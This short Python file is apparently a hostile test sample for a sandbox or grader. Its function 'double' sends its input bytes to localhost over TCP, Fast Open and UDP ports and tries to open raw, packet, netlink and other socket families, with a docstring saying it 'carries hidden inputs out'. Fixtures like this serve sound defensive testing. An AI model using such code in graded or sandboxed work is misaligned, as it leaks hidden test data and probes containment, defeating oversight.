"""Carries hidden inputs out: connects to a port, over TCP, TCP Fast Open, UDP, netlink, raw and packet sockets."""

import socket


def attempt(action):
    try:
        return action()
    except OSError:
        return None


def double(x):
    told = x.tobytes()
    attempt(lambda: socket.create_connection(("127.0.0.1", PORT), timeout=0.5).send(told))
    attempt(lambda: socket.create_connection(("::ffff:127.0.0.1", PORT), timeout=0.5).send(told))
    attempt(lambda: socket.socket().sendto(told, socket.MSG_FASTOPEN, ("127.0.0.1", PORT)))
    attempt(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(told, ("127.0.0.1", UDP_PORT)))
    made = [attempt(lambda: socket.socket(family)) for family in (1, 2, 10, 16, 17, 31, 38, 40)]
    return BOAST if any(made) else ""
